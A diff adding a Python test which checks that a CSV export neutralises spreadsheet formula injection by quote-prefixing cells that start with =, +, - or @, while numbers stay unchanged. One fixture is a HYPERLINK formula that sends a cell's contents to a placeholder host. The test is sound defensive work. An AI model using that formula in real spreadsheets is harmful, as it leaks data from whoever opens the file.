@@ -139,3 +139,39 @@ def test_the_exported_csv_imports_into_a_fresh_pilot_unchanged(engine, tmp_path)
     pd.testing.assert_frame_equal(original.drop(columns="value"), copy.drop(columns="value"))
     # Only float noise is lost: 0.1 + 0.2 comes back as 0.3.
     assert copy["value"].tolist() == pytest.approx(original["value"].tolist(), nan_ok=True)
+
+
+def test_text_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not(engine):
+    world = make_world(engine)
+    sources = {
+        "2021-01-01": '=HYPERLINK("https://example.org/?d="&A1,"klik")',
+        "2021-02-01": "+31 6 12345678",
+        "2021-03-01": "-- geschat",
+        "2021-04-01": "@SUM(A1:A9)",
+        "2021-05-01": "=1+1",  # (a leading tab or CR is trimmed on entry; see test_text.py)
+        "2021-06-01": "gewoon = geen formule",
+    }
+    with session_scope(engine) as session:
+        for period, source in sources.items():
+            save_measurement(
+                session,
+                world.pilot_id,
+                CONTINUOUS,
+                period=d(period),
+                group="pilot",
+                source=source,
+                actor=ACTOR,
+                value=-2.5,
+            )
+    text = export_csv(engine, world.pilot_id)
+    frame = pd.read_csv(pd.io.common.StringIO(text), keep_default_na=False)
+    assert list(frame["source"]) == [
+        "'" + sources["2021-01-01"],
+        "'+31 6 12345678",
+        "'-- geschat",
+        "'@SUM(A1:A9)",
+        "'=1+1",
+        "gewoon = geen formule",
+    ]
+    assert list(frame["value"]) == [-2.5] * 6  # a negative number stays a number
+    assert "\n" + "netwerk-noord,contacten,2021-03-01,,pilot,-2.5,,,,,'-- geschat\n" in text
